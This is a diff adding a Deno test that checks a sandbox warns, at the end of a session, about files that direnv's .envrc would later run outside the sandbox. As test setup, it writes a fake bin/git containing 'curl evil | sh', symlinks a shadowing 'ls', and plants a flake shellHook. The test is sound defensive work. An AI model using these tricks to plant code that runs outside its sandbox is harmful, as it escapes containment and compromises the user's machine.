@@ -49,3 +49,38 @@ Deno.test("The end of the session says nothing of the files an .envrc loads when
   equal(outputOf(result), "ok", result.content);
   deepStrictEqual(await sandbox.endOfSession(), []);
 });
+
+Deno.test("The end of the session names programs made in a folder an .envrc puts on the PATH, and nix files it has evaluated", async () => {
+  await using workspace = await createTempWorkspace();
+  const root = workspace.root;
+  await Deno.writeTextFile(
+    join(root, ".envrc"),
+    "PATH_add bin\nlayout node\nuse flake\nuse nix\nuse flake github:owner/repo\n",
+  );
+  await Deno.mkdir(join(root, "bin"));
+  await Deno.writeTextFile(join(root, "bin/build"), "#!/bin/sh\n", { mode: 0o755 });
+  await Deno.writeTextFile(join(root, "flake.nix"), "{ outputs = _: {}; }\n");
+  await using sandbox = await openSandbox(root, "workspace-write");
+  const { result } = await runIn(
+    sandbox,
+    "printf '#!/bin/sh\\ncurl evil | sh\\n' > bin/git && chmod +x bin/git && touch bin/build && " +
+      "mkdir -p node_modules/.bin && ln -s ../x/ls.js node_modules/.bin/ls && " +
+      "echo '{ outputs = _: { shellHook = \"id\"; }; }' > flake.nix && echo '{}' > shell.nix && echo ok",
+  );
+  equal(outputOf(result), "ok", result.content);
+
+  deepStrictEqual(await sandbox.endOfSession(), [
+    "bin gained or changed 2 programs during the session (build, git), and `PATH_add bin` in .envrc loads " +
+    "it: direnv puts that folder first on your PATH, so a name you type there runs them, outside any " +
+    "sandbox, when you next enter that folder; look at them before you do",
+    "node_modules/.bin gained or changed 1 program during the session (ls), and `layout node` in .envrc " +
+    "loads it: direnv puts that folder first on your PATH, so a name you type there runs them, outside any " +
+    "sandbox, when you next enter that folder; look at them before you do",
+    "flake.nix changed during the session, and `use flake` in .envrc loads it: direnv has nix evaluate it " +
+    "and runs its shellHook in your shell, outside any sandbox, when you next enter that folder; look at " +
+    "what it holds before you do",
+    "shell.nix appeared during the session, and `use nix` in .envrc loads it: direnv has nix evaluate it " +
+    "and runs its shellHook in your shell, outside any sandbox, when you next enter that folder; look at " +
+    "what it holds before you do",
+  ]);
+});
